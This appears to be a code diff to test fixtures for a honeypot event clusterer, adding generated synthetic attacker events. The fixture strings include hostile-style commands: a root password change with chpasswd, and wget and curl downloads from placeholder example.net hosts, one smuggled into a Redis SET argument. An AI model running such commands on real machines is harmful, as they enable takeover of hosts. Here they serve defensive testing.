@@ -27,7 +27,7 @@ from tests.decnet_workers.clusterer.scenes import (
 )
 from tests.examples import examples
 
-from decnet_core.events.catalogue import HttpRequest, Payload
+from decnet_core.events.catalogue import HttpRequest, Payload, ServiceRequest
 from decnet_core.events.envelope import Event
 from decnet_models.database.engine import reading
 from decnet_models.identities.tables import IDENTITIES, identity_attacker, identity_core
@@ -49,6 +49,7 @@ MAKERS: list[Callable[[str], Payload]] = [
     lambda name: command(f"echo 'root:vK3{name}Tq9xZ' | chpasswd"),
     lambda name: command(f"/bin/busybox KI{name.upper()}; wget http://{name}.example.net/b"),
     lambda name: HttpRequest(method="POST", target="/", body=f'{{"Image": "by{name}/run"}}'),
+    lambda name: ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x curl http://{name}.example.net/r"}),
 ]
 
 
@@ -109,8 +110,11 @@ def crews(draw: random.Random) -> Iterator[Event]:
             at = DAY * (begin + draw.randrange(width))
             shown: list[Payload] = [command(f"wget http://kit{crew}.example.net/x")] if number < size - 2 else []
             shown += [password(f"user{crew}{one}", f"secret-{crew}{one}") for one in draw.sample(range(6), 5)]
+            shown += [password(f"user{one}", f"of-{crew}-{one}-long") for one in draw.sample(range(24), 7)]
             shown += [password(f"list{one}", "listed") for one in draw.sample(range(6), draw.choice([0, 5]))]
             shown += [command(f"do{crew}{'abcdefghijklmn'[one]}x --now") for one in range(draw.choice([0, 4, 14]))]
+            shown += [key(f"own {crew}{draw.randrange(6)}") for _ in range(draw.choice([0, 1]))]
+            shown += [command(f"./run -u 4{'ABCDE'[draw.randrange(5)] * 94}") for _ in range(draw.choice([0, 0, 1]))]
             shown += [one for one in (hassh(f"tool{crew % 2}"), file(f"{crew % 2}" * 64)) if draw.random() < 0.5]
             for payload in shown:
                 yield event(attacker, payload, at)
